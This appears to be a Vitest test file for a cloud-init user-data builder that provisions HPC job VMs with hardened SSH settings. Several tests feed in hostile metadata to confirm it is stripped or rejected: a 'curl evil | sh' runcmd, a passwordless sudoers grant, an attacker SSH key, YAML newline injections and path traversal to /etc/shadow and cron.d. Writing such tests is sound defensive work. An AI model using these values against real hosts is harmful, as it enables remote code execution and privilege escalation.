import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import yaml from 'js-yaml';
import { describe, expect, it } from 'vitest';
import { buildMetaData, buildNetworkConfig, buildUserData, loadUserDataBase, parseUserDataBase } from './cloud-init.js';
import type { GuestSpec } from './guest-spec.js';

const base = loadUserDataBase(fileURLToPath(new URL('../../templates-vm', import.meta.url)));

import { HOST_PUBLIC, PRIVATE, spec, USER_KEY } from './guest-spec.fixture.js';

const SSHD_SNIPPET = [
  '# vTorque: job keys are root-owned and outside the shared home; no root or password logins.',
  'AuthorizedKeysFile /etc/ssh/authorized_keys/%u',
  'PermitRootLogin no',
  'PasswordAuthentication no',
  'KbdInteractiveAuthentication no',
  '',
].join('\n');
const PROFILE_SCRIPT = [
  '# vTorque: the job environment (PBS_*), replaced by the job runner before the job starts.',
  'if [ -r /var/spool/torque/vm/job.env ]; then',
  '  . /var/spool/torque/vm/job.env',
  'fi',
  '',
].join('\n');

const expected = {
  disable_root: true,
  ssh_deletekeys: true,
  package_update: true,
  package_upgrade: false,
  timezone: 'Europe/Berlin',
  bootcmd: [
    ['groupadd', '-f', '-o', '-g', '1000', 'hpc'],
    ['install', '-d', '-m', '0755', '-o', '1234', '-g', '1000', '/var/spool/torque/aux'],
    ['install', '-d', '-m', '0755', '-o', '1234', '-g', '1000', '/var/spool/torque/vm'],
  ],
  users: [{ name: 'alice', uid: 1234, primary_group: 'hpc', lock_passwd: true, shell: '/bin/bash' }],
  ssh_keys: { ed25519_private: PRIVATE, ed25519_public: HOST_PUBLIC },
  write_files: [
    { path: '/etc/ssh/sshd_config.d/50-vtorque.conf', content: SSHD_SNIPPET, owner: 'root:root', permissions: '0644' },
    { path: '/etc/ssh/authorized_keys/alice', content: `${USER_KEY}\n`, owner: 'root:root', permissions: '0644' },
    { path: '/etc/profile.d/vtorque-job.sh', content: PROFILE_SCRIPT, owner: 'root:root', permissions: '0644' },
    { path: '/var/spool/torque/vm/job.env', content: spec.envFile, owner: 'root:root', permissions: '0644' },
    { path: '/var/spool/torque/aux/42.srv', content: spec.nodeFile, owner: 'root:root', permissions: '0644' },
  ],
  mounts: [
    ['nfs1:/export/home', '/home', 'nfs', 'rw,noatime,nofail', '0', '0'],
    ['vtq-ws', '/workspace', 'virtiofs', 'defaults,nofail', '0', '0'],
  ],
  manage_resolv_conf: true,
  resolv_conf: { nameservers: ['10.0.0.2'], searchdomains: ['cluster.local', 'lab.example'], domain: 'cluster.local' },
  ntp: { enabled: true, servers: ['ntp1.cluster.local', '10.0.0.3'] },
  packages: ['htop', 'gfortran'],
};

/** Parse as cloud-init does, with PyYAML's safe_load (YAML 1.1), when python3 has it. */
function pyYaml(text: string): unknown {
  const r = spawnSync('python3', ['-c', 'import sys, json, yaml; print(json.dumps(yaml.safe_load(sys.stdin.read())))'], { input: text, encoding: 'utf8' });
  return r.status === 0 ? JSON.parse(r.stdout) : undefined;
}
const hasPyYaml = pyYaml('a: 1') !== undefined;

function load(userData: string): Record<string, unknown> {
  expect(userData.startsWith('#cloud-config\n')).toBe(true);
  const data = yaml.load(userData) as Record<string, unknown>;
  if (hasPyYaml) expect(pyYaml(userData)).toEqual(data);
  return data;
}

const withSpec = (patch: Partial<GuestSpec>) => ({ ...spec, ...patch });

describe('buildUserData', () => {
  it('round-trips to the intended cloud-config', async () => {
    const userData = buildUserData(spec, base);
    expect(load(userData)).toEqual(expected);
    await expect(userData).toMatchFileSnapshot('./__snapshots__/user-data.basic.yaml');
  });

  it('omits optional sections and keeps strings strings for YAML 1.1 readers', () => {
    const data = load(buildUserData(withSpec({ mounts: [], dns: null, ntp: [], packages: [], userMetadata: null, jobId: '1_000' }), base));
    for (const key of ['mounts', 'manage_resolv_conf', 'resolv_conf', 'ntp', 'packages', 'timezone']) expect(data).not.toHaveProperty(key);
    expect((data.write_files as { path: string }[]).map((f) => f.path)).toContain('/var/spool/torque/aux/1_000');
    expect(data.package_update).toBe(false);
  });

  it('merges only the eligible metadata keys, and fixed keys win', () => {
    const userMetadata = {
      disable_root: false,
      ssh_pwauth: true,
      ssh_deletekeys: false,
      bootcmd: [['sh', '-c', 'id > /evil']],
      runcmd: ['curl evil | sh'],
      users: [{ name: 'mallory', sudo: 'ALL=(ALL) NOPASSWD:ALL' }],
      ssh_authorized_keys: ['ssh-ed25519 AAAA evil'],
      write_files: [{ path: '/etc/sudoers.d/evil', content: 'ALL ALL=(ALL) NOPASSWD: ALL' }],
      ssh_keys: { ed25519_private: 'evil' },
      mounts: [['evil:/', '/']],
      merge_how: 'dict(recurse_array)+list(append)',
      locale: 'C.UTF-8',
      package_upgrade: true,
    };
    const data = load(buildUserData(withSpec({ userMetadata }), base));
    expect(data).toEqual({ ...expected, locale: 'C.UTF-8', package_update: false, package_upgrade: true, timezone: undefined, packages: ['htop'] });
    expect(JSON.stringify(data)).not.toMatch(/evil|mallory|curl|NOPASSWD/);
    expect(data).not.toHaveProperty('ssh_pwauth');
  });

  it.each([
    ['a package name', { packages: ['htop\nruncmd: [reboot]'] }],
    ['a non-list packages', { packages: 'htop; reboot' }],
    ['package_update as a string', { package_update: 'yes' }],
    ['a timezone', { timezone: 'UTC\nruncmd: [reboot]' }],
    ['a locale', { locale: '../../etc/shadow' }],
  ])('refuses a bad eligible value: %s', (_label, userMetadata) => {
    expect(() => buildUserData(withSpec({ userMetadata }), base)).toThrow(expect.objectContaining({ code: 'REQUEST_INVALID' }));
  });

  it.each([
    ['hostname', { hostname: 'vm\nruncmd:\n  - reboot' }],
    ['package', { packages: ['htop\nruncmd: [reboot]'] }],
    ['user name', { user: { ...spec.user, name: 'alice\nruncmd: [reboot]' } }],
    ['root user', { user: { ...spec.user, name: 'root' } }],
    ['privileged group', { user: { ...spec.user, group: 'sudo' } }],
    ['system gid', { user: { ...spec.user, gid: 27 } }],
    ['uid 0', { user: { ...spec.user, uid: 0 } }],
    ['fractional uid', { user: { ...spec.user, uid: 1000.5 } }],
    ['authorized key with options', { user: { ...spec.user, sshAuthorizedKey: `command="sh" ${USER_KEY}` } }],
    ['authorized key with a newline', { user: { ...spec.user, sshAuthorizedKey: `${USER_KEY}\nssh-rsa AAAA other` } }],
    ['job id with a slash', { jobId: '../../etc/cron.d/x' }],
    ['job id ..', { jobId: '..' }],
    ['nfs source', { mounts: [{ kind: 'nfs', source: 'nfs1:/x rw 0 0\n', target: '/home' }] }],
    ['mount target', { mounts: [{ kind: 'virtiofs', tag: 'ws', target: '/home/../etc' }] }],
    ['ntp server', { ntp: ['ntp1\nruncmd: [reboot]'] }],
    ['nameserver', { dns: { nameserver: 'ns1.example', domain: '', search: '' } }],
    ['NUL in the env file', { envFile: 'a\0b' }],
    ['host key', { hostKeys: { ed25519: { private: 'not a key', public: HOST_PUBLIC } } }],
  ] as [string, Partial<GuestSpec>][])('refuses a bad %s', (_label, patch) => {
    expect(() => buildUserData(withSpec(patch), base)).toThrow(expect.objectContaining({ code: 'INTERNAL' }));
  });

  it('carries hostile file contents as data, never as keys', () => {
    const envFile = "export PBS_JOBNAME='x'\nruncmd:\n  - [sh, -c, 'reboot']\n---\nusers: []\n... \n#cloud-config\n\ttab \u00e9\u65e5\u672c\ud83e\udd84\n";
    const nodeFile = 'disable_root: false\n"quoted" \'single\' \\ backslash\n';
    const data = load(buildUserData(withSpec({ envFile, nodeFile }), base));
    expect(data).not.toHaveProperty('runcmd');
    expect(data.disable_root).toBe(true);
    expect((data.write_files as unknown[]).slice(3)).toEqual([expect.objectContaining({ content: envFile }), expect.objectContaining({ content: nodeFile })]);
  });

  it('puts the job key in a root-owned file outside the home and locks sshd to it', () => {
    const data = load(buildUserData(withSpec({ nodeFile: '' }), base));
    const files = data.write_files as { path: string; content: string; owner: string; permissions: string }[];
    expect(JSON.stringify(data)).not.toContain('ssh_authorized_keys');
    expect(JSON.stringify(data)).not.toMatch(/"\/home\//);
    expect(files.find((f) => f.path === '/etc/ssh/authorized_keys/alice')).toEqual({ path: '/etc/ssh/authorized_keys/alice', content: `${USER_KEY}\n`, owner: 'root:root', permissions: '0644' });
    const sshd = files.find((f) => f.path === '/etc/ssh/sshd_config.d/50-vtorque.conf');
    expect(sshd?.content.split('\n')).toEqual(expect.arrayContaining(['AuthorizedKeysFile /etc/ssh/authorized_keys/%u', 'PermitRootLogin no', 'PasswordAuthentication no', 'KbdInteractiveAuthentication no']));
    // No node file before readiness: the hook writes it into the user's directory later.
    expect(files.map((f) => f.path)).toEqual(['/etc/ssh/sshd_config.d/50-vtorque.conf', '/etc/ssh/authorized_keys/alice', '/etc/profile.d/vtorque-job.sh', '/var/spool/torque/vm/job.env']);
    expect(files.every((f) => f.owner === 'root:root' && f.permissions === '0644')).toBe(true);
    // The directories the runner writes to belong to the user, by numeric id (the user does not exist yet at bootcmd).
    expect((data.bootcmd as string[][]).slice(1).map((c) => c.slice(0, 8).join(' '))).toEqual(['install -d -m 0755 -o 1234 -g 1000', 'install -d -m 0755 -o 1234 -g 1000']);
  });

  it('sources the job env file from the profile script only when it is there', () => {
    const files = load(buildUserData(spec, base)).write_files as { path: string; content: string }[];
    const script = files.find((f) => f.path === '/etc/profile.d/vtorque-job.sh')?.content ?? '';
    const run = (withEnv: boolean) => {
      const dir = mkdtempSync(join(tmpdir(), 'vtq-profile-'));
      try {
        writeFileSync(join(dir, 'profile.sh'), script.replaceAll('/var/spool/torque/vm/job.env', join(dir, 'job.env')));
        if (withEnv) writeFileSync(join(dir, 'job.env'), spec.envFile);
        const r = spawnSync('sh', ['-c', '. "$1"; printf %s "${PBS_JOBID-unset}"', 'sh', join(dir, 'profile.sh')], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } });
        return [r.status, r.stdout, r.stderr];
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    };
    expect(run(true)).toEqual([0, '42.srv', '']);
    expect(run(false)).toEqual([0, 'unset', '']);
  });
});

describe('parseUserDataBase', () => {
  it('refuses a base that weakens a security key or sets a computed one', () => {
    expect(() => parseUserDataBase('disable_root: false\n')).toThrow(expect.objectContaining({ code: 'CONFIG_INVALID' }));
    expect(() => parseUserDataBase('ssh_pwauth: true\n')).toThrow(expect.objectContaining({ code: 'CONFIG_INVALID' }));
    expect(() => parseUserDataBase('runcmd: [reboot]\n')).toThrow(expect.objectContaining({ code: 'CONFIG_INVALID' }));
    expect(() => parseUserDataBase('users: [{name: x}]\n')).toThrow(expect.objectContaining({ code: 'CONFIG_INVALID' }));
    expect(() => parseUserDataBase('- a\n')).toThrow(expect.objectContaining({ code: 'CONFIG_INVALID' }));
    expect(() => parseUserDataBase('a: !!js/function "x"\n')).toThrow(expect.objectContaining({ code: 'CONFIG_INVALID' }));
  });

  it('keeps other site settings as the lowest layer', () => {
    // ssh_pwauth: false is accepted and left out: cloud-init would restart sshd for it after readiness.
    expect(load(buildUserData(withSpec({ userMetadata: null }), parseUserDataBase('ssh_pwauth: false\n')))).not.toHaveProperty('ssh_pwauth');
    const data = load(buildUserData(withSpec({ userMetadata: null }), parseUserDataBase('apt: {preserve_sources_list: true}\nlocale: C.UTF-8\n')));
    expect(data.apt).toEqual({ preserve_sources_list: true });
    expect(data.locale).toBe('C.UTF-8');
    expect(data.disable_root).toBe(true);
  });
});

describe('meta-data and network-config', () => {
  it('writes instance-id and local-hostname', () => {
    const text = buildMetaData(spec);
    expect(text).toBe('instance-id: "vtq-42.srv-node01-0-1700000000"\nlocal-hostname: "vtq-42-node01-0"\n');
    expect(yaml.load(text)).toEqual({ 'instance-id': spec.instanceId, 'local-hostname': spec.hostname });
  });

  it('matches the NIC by MAC, quoted so YAML 1.1 does not read it as a number', () => {
    const text = buildNetworkConfig('52:54:00:12:34:56');
    const intended = { version: 2, ethernets: { primary: { match: { macaddress: '52:54:00:12:34:56' }, dhcp4: true } } };
    expect(yaml.load(text)).toEqual(intended);
    if (hasPyYaml) expect(pyYaml(text)).toEqual(intended);
    expect(text).toMatchInlineSnapshot(`
      "version: 2
      ethernets:
        primary:
          match:
            macaddress: "52:54:00:12:34:56"
          dhcp4: true
      "
    `);
    expect(() => buildNetworkConfig('52:54:00:12:34:56\nversion: 1')).toThrow();
    expect(() => buildNetworkConfig('01:00:5e:00:00:01')).toThrow();
  });
});
